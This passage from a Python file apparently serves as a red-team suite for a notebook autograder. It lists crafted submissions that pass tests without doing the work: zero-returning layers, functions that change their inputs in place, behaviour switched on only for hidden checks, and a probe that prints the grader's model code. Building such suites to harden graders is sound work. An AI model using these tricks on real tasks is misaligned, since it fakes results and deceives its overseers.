AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAOBuT7QABMOQe6wAAAABJRU5ErkJggg=="
ATTACKS["03_apng_frames"] = ("03", {"+test_relu_input_unchanged":
    "from IPython.display import display\n"
    f"display({{'image/png': '{APNG41}', 'text/plain': 'an animation'}}, raw=True)\n"})

# M3 in a PyTorch notebook: the layers declared, a forward that returns zeros of the right shape
ATTACKS["10_shape_only_block"] = ("10", {
    "BasicBlock": r'''
class BasicBlock(nn.Module):
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self.conv1 = nn.Conv2d(in_channels, out_channels, 3, stride, padding=1, bias=False)
        self.bn1 = nn.BatchNorm2d(out_channels)
        self.conv2 = nn.Conv2d(out_channels, out_channels, 3, 1, padding=1, bias=False)
        self.bn2 = nn.BatchNorm2d(out_channels)
        if stride != 1 or in_channels != out_channels:
            self.shortcut = nn.Sequential(nn.Conv2d(in_channels, out_channels, 1, stride, bias=False),
                                          nn.BatchNorm2d(out_channels))
        else:
            self.shortcut = nn.Identity()
        self.out_channels, self.stride = out_channels, stride

    def forward(self, x):
        n, _, h, w = x.shape
        return torch.zeros(n, self.out_channels, -(-h // self.stride), -(-w // self.stride))
''',
})

# what arrives in the kernel when a test hands the learner's function a model of its own: its class's code?
MODEL_RECON = r'''
import numpy as np
import torch
SEEN_MODELS = []


def _describe(model):
    info = {"type": f"{type(model).__module__}.{type(model).__qualname__}",
            "mro": [c.__qualname__ for c in type(model).__mro__][:6], "code": []}
    for m in getattr(model, "modules", lambda: [model])():
        for k, v in vars(type(m)).items():
            code = getattr(v, "__code__", None)
            if code is not None:
                info["code"].append((type(m).__qualname__, k, code.co_filename,
                                     [c for c in code.co_consts if isinstance(c, str)][:8], code.co_names[:12]))
    return info


def saliency(model, x, target):
    SEEN_MODELS.append(_describe(model))
    model.eval()
    xx = x.detach().clone().requires_grad_(True)
    model(xx[None])[0, target].backward()
    return xx.grad.abs().amax(dim=0).detach().numpy().astype(np.float64)


def occlusion_map(model, x, target, patch=8, stride=4, fill=0.0):
    SEEN_MODELS.append(_describe(model))
    raise NotImplementedError
'''
ATTACKS["09_model_recon"] = ("09", {"occlusion_map": MODEL_RECON, "saliency": "# above\n",
                                    "+test_saliency_errors": "import json\nfor m in SEEN_MODELS:\n    print('MODEL', json.dumps(m)[:1500])\n"})

# inputs changed in place where a test builds its expectation from them after the call
ATTACKS["02_inplace_inputs"] = ("02", {
    "conv_output_size": "def conv_output_size(W, F, S=1, P=0):\n    if F < 1 or S < 1 or P < 0 or (W - F + 2 * P) % S or W - F + 2 * P < 0:\n"
                        "        raise ValueError(f'W={W}, F={F}, S={S}, P={P}')\n    return (W - F + 2 * P) // S + 1\n",
    "zero_pad": "import numpy as np\n\n\ndef zero_pad(x, pad):\n    N, C, H, W = x.shape\n"
                "    x[...] = 0          # test_zero_pad builds its expected array from x after the call\n"
                "    return np.zeros((N, C, H + 2 * pad, W + 2 * pad))\n",
    "conv_forward_fast": r'''
def conv_forward_fast(x, w, b, stride=1, pad=0):
    """Loops (not vectorised). Zeroes w and b afterwards: the loop-free check reuses them."""
    N, C, H, W = x.shape
    K, _, F, _ = w.shape
    Ho, Wo = conv_output_size(H, F, stride, pad), conv_output_size(W, F, stride, pad)
    if not w.any() and not b.any():
        return np.zeros((N, K, Ho, Wo))
    xp = np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)))
    out = np.zeros((N, K, Ho, Wo))
    for n in range(N):
        for k in range(K):
            for i in range(Ho):
                for j in range(Wo):
                    out[n, k, i, j] = (xp[n, :, i * stride:i * stride + F, j * stride:j * stride + F] * w[k]).sum() + b[k]
    w[...] = 0
    b[...] = 0
    return out
''',
})

# v2: a looped conv_forward_fast that, in the hidden part (after the last cell), zeroes w and b first and returns
# zeros, for hidden checks that compute their expectation from w and b after the call
ATTACKS["02_inplace_inputs_hidden"] = ("02", dict(ATTACKS["02_inplace_inputs"][1], **{
    "conv_forward_fast": ATTACKS["02_inplace_inputs"][1]["conv_forward_fast"].replace(
        "    if not w.any() and not b.any():",
        "    if globals().get('_AFTER_END'):\n        w[...] = 0\n        b[...] = 0\n    if not w.any() and not b.any():"),
    "+score_notebook": "_AFTER_END = True\n",
}))

# 12's transposed convolution from the course's own forward convolution (real in 12: its demonstrations use it)
ATTACKS["12_transpose_by_conv_forward"] = ("12", {
    "conv_transpose_naive": r'''
import numpy as np
from cnnlib import layers


def conv_transpose_naive(x, w, b, stride=1, pad=0):
    N, Ci, H, W = x.shape
    _, Co, FH, FW = w.shape
    up = np.zeros((N, Ci, (H - 1) * stride + 1, (W - 1) * stride + 1))
    up[:, :, ::stride, ::stride] = x
    up = np.pad(up, ((0, 0), (0, 0), (FH - 1, FH - 1), (FW - 1, FW - 1)))
    wf = np.ascontiguousarray(w[:, :, ::-1, ::-1].transpose(1, 0, 2, 3))
    full = layers.conv_forward(up, wf, np.asarray(b, dtype=float))
    Hout, Wout = (H - 1) * stride - 2 * pad + FH, (W - 1) * stride - 2 * pad + FW
    return full[:, :, pad:pad + Hout, pad:pad + Wout]
''',
})
